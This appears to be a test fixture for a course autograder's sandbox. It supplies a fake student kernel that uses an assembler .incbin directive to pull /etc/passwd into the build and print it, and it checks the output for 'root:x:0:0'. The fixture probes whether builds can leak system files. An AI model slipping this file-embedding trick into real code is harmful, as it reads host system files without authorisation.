"""Takes files of the system into the library by the assembler, and prints them when the op is called."""

WEEK = 2
BASE = "student"
TASKS = ["2.2"]
LEAKS = ["root:x:0:0"]
FILES = {
    "kernels/quantized_matmul.cpp": """
#include "quantized_matmul.h"

#include "mlx/mlx.h"

#include <cstdio>

asm(".section .rodata\\nstolen:\\n.incbin \\"/etc/passwd\\"\\n.byte 0\\n.previous\\n");
extern "C" const char stolen[];

namespace kernels {

namespace mx = mlx::core;

mx::array quantized_matmul(const mx::array& scales, const mx::array& biases, int group_size, int bits,
                           const mx::array& a, const mx::array& b, bool transpose_b, mx::StreamOrDevice s) {
  std::puts(stolen);
  (void)scales, (void)biases, (void)group_size, (void)bits, (void)b, (void)transpose_b, (void)s;
  return a;
}

}  // namespace kernels
""",
}
APPEND = {
    "quantize.py": """
def quantized_matmul(scales, biases, group_size, bits, a, b, transpose_b=False):
    from kernels import quantized_matmul as kernel

    return kernel(scales, biases, group_size, bits, a, b, transpose_b)


def quantized_linear(x, w, bias=None):
    y = quantized_matmul(w.scales, w.biases, w.group_size, w.bits, x, w.weight, True)
    return y if bias is None else y + bias
""",
}
